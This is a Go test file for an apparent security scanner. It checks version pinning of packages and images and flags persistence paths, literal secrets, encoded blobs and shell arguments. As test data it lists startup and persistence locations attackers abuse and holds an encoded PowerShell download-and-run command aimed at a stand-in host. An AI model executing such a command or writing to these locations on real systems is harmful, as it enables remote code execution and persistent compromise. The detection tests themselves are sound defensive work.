package assess

import (
	"strings"
	"testing"
)

func TestNpmPinned(t *testing.T) {
	for spec, want := range map[string]bool{
		"pkg@1.2.3": true, "@scope/pkg@1.2.3": true, "pkg@1.2.3-beta.1+b5": true, "pkg@v1.2.3": true, "npm:pkg@1.0.0": true,
		"pkg": false, "@scope/pkg": false, "pkg@latest": false, "pkg@next": false, "@a/b@main": false, "pkg@^1.2.3": false,
		"pkg@~1.2": false, "pkg@>=1": false, "pkg@1": false, "pkg@1.x": false, "pkg@*": false, "pkg@": false,
		"git+https://github.com/o/r.git#" + sha: true, "github:o/r#" + sha: true, "o/r#" + sha: true,
		"git+https://github.com/o/r.git#main": false, "o/r": false, "https://x.example/p.tgz": false,
		"./local": true, "file:../x": true, "/abs/path": true,
	} {
		if got := npmPinned(spec); got != want {
			t.Errorf("npmPinned(%q) = %v, want %v", spec, got, want)
		}
	}
}

const sha = "0123456789abcdef0123456789abcdef01234567"

func TestPyPinned(t *testing.T) {
	for spec, want := range map[string]bool{
		"pkg==1.2.3": true, "pkg===weird": true, "pkg[mcp]==0.27.0": true, "pkg==1.0rc1": true, "pkg==2.0.post1": true,
		"pkg@1.2.3": true, "pkg==1.2.3; python_version>'3.8'": true,
		"pkg": false, "pkg>=1": false, "pkg~=1.2": false, "pkg==1.*": false, "pkg!=1": false, "pkg@latest": false,
		"pkg==": false, "pkg==1.2,<2": false,
		"git+https://github.com/o/r@" + sha: true, "pkg @ git+https://github.com/o/r@" + sha: true,
		"git+https://github.com/o/r@main": false, "git+https://github.com/o/r": false, "git+https:x": false,
		"https://x.example/p-1.0.tar.gz#sha256=" + sha + "012345678901234567890123": true,
		"https://x.example/p-1.0.tar.gz":                                            false, "./src": true,
	} {
		if got := pyPinned(spec); got != want {
			t.Errorf("pyPinned(%q) = %v, want %v", spec, got, want)
		}
	}
}

func TestImagePinned(t *testing.T) {
	for ref, want := range map[string]bool{
		"img:1.2.3": true, "ghcr.io/o/img:v1": true, "localhost:5000/img:2": true,
		"img@sha256:" + sha + "0123456789abcdef01234567": true,
		"img": false, "img:latest": false, "IMG:LATEST": false, "ghcr.io/o/img:main": false, "localhost:5000/img": false,
		"img@sha256:short": false,
	} {
		if got, _ := imagePinned(ref); got != want {
			t.Errorf("imagePinned(%q) = %v, want %v", ref, got, want)
		}
	}
}

func TestPersistencePath(t *testing.T) {
	for p, want := range map[string]bool{
		"/Users/x/Library/LaunchAgents/a.plist": true, "/Library/LaunchDaemons/a.plist": true,
		"~/.bashrc": true, ".zshrc": true, "/home/u/.profile": true, "~/.config/fish/config.fish": true,
		"/etc/profile": true, "/etc/profile.d/x.sh": true, "/etc/cron.d/job": true, "/var/spool/cron/crontabs/u": true,
		"/etc/systemd/system/x.service": true, "~/.config/systemd/user/x.service": true,
		"~/.config/autostart/x.desktop": true, "/etc/xdg/autostart/x.desktop": true,
		`C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk`: true,
		`HKCU\Software\Microsoft\Windows\CurrentVersion\Run`:                             true, "/etc/ld.so.preload": true,
		"~/.ssh/authorized_keys": true, "/etc/rc.local": true,
		"--autostart": false, "autostart": false, "crontab": false, "/home/u/profile": false, "/etc/hosts": false,
		"/srv/app/profile": false, "https://x.example/.bashrc": false, "/home/u/src": false, "/etc/xdg/other": false,
		"": false,
	} {
		if got := persistencePath(p); got != want {
			t.Errorf("persistencePath(%q) = %v, want %v", p, got, want)
		}
	}
}

func TestLiteralSecret(t *testing.T) {
	for v, want := range map[string]bool{
		"ghp_0123456789abcdefghij": true, "Bearer sk-live-0123456789ab": true, "Rfvm1310&Odoo": true,
		"x": false, "Bearer x": false, "${TOKEN}": false, "Bearer ${TOKEN}": false, "$TOKEN": false, "{{token}}": false,
		"<your-token>": false, "%TOKEN%": false, "YOUR_API_KEY": false, "your-token-here": false,
		"ghp_yourtokenhere": false, "/path/to/key.pem": false, "https://x.example": false, "database_password": false,
		"sk-live-0123456789ab...": false, "two words 1234567890": false,
	} {
		if got := literalSecret(v); got != want {
			t.Errorf("literalSecret(%q) = %v, want %v", v, got, want)
		}
	}
}

func TestLooksEncoded(t *testing.T) {
	blob := "AAaa11BBbb22CCcc33DDdd44EEee55FFff66GGgg77HHhh88IIii99JJjj00KKkk"
	for v, want := range map[string]bool{
		blob: true, blob + "==": true, blob[:60] + "+/ab": true, blob[:60] + "-_ab": true,
		blob[:63]: false, blob[:60] + "-+ab": false, "abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijkl0123": false,
		blob[:60] + "a.bc": false,
	} {
		if got := looksEncoded(v); got != want {
			t.Errorf("looksEncoded(%q) = %v, want %v", v, got, want)
		}
	}
}

func TestShellArgs(t *testing.T) {
	words := func(ss ...string) []arg {
		out := make([]arg, len(ss))
		for i, s := range ss {
			out[i] = arg{text: s, lit: true}
		}
		return out
	}
	for _, tc := range []struct {
		args         []string
		script, file string
		stdin        bool
	}{
		{[]string{"-c", "x"}, "x", "", false},
		{[]string{"-lc", "x"}, "x", "", false},
		{[]string{"-e", "-o", "pipefail", "-c", "x", "arg0"}, "x", "", false},
		{[]string{"--login", "-c", "x"}, "x", "", false},
		{[]string{"-c", "--", "x"}, "x", "", false},
		{[]string{"run.sh", "-c", "x"}, "", "run.sh", false},
		{[]string{"-s", "--", "a"}, "", "", true},
		{[]string{}, "", "", true},
		{[]string{"-c"}, "", "", false},
	} {
		script, file, stdin := shellArgs(words(tc.args...))
		gs, gf := "", ""
		if script != nil {
			gs = script.text
		}
		if file != nil {
			gf = file.text
		}
		if gs != tc.script || gf != tc.file || stdin != tc.stdin {
			t.Errorf("shellArgs(%q) = %q, %q, %v; want %q, %q, %v", tc.args, gs, gf, stdin, tc.script, tc.file, tc.stdin)
		}
	}
}

func TestDecodeUTF16Base64(t *testing.T) {
	got, ok := decodeUTF16Base64("SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA=")
	if !ok || got != "IEX (iwr https://x)" {
		t.Errorf("decode = %q, %v; want %q, true", got, ok, "IEX (iwr https://x)")
	}
	for _, bad := range []string{"%%%", "QQ==", ""} {
		if got, ok := decodeUTF16Base64(bad); ok && bad != "" {
			t.Errorf("decode(%q) = %q, true; want failure", bad, got)
		}
	}
}

func TestSafeText(t *testing.T) {
	for in, want := range map[string]string{
		"plain-text_1.2": "plain-text_1.2", "a\x1b[31mb": "a?[31mb", "<script>": "?script?", "x\u202ey": "x?y",
		`a"b'c\d&e`: "a?b?c?d?e",
	} {
		if got := safeText(in, 80); got != want {
			t.Errorf("safeText(%q) = %q, want %q", in, got, want)
		}
	}
	if got := safeText("abcdef", 3); got != "abc..." {
		t.Errorf("safeText cut = %q, want %q", got, "abc...")
	}
}

// TestPluralLen checks the length envBlock sizes its message with against
// the text plural writes, and writePlural against plural.
func TestPluralLen(t *testing.T) {
	for _, n := range []int{0, 1, 2, 9, 10, 11, 99, 100, 101, 1000, 12345} {
		want := plural(n, "environment variable")
		if got := pluralLen(n, "environment variable"); got != len(want) {
			t.Errorf("pluralLen(%d) = %d, want %d (%q)", n, got, len(want), want)
		}
		var b strings.Builder
		writePlural(&b, n, "environment variable")
		if b.String() != want {
			t.Errorf("writePlural(%d) = %q, want %q", n, b.String(), want)
		}
	}
}
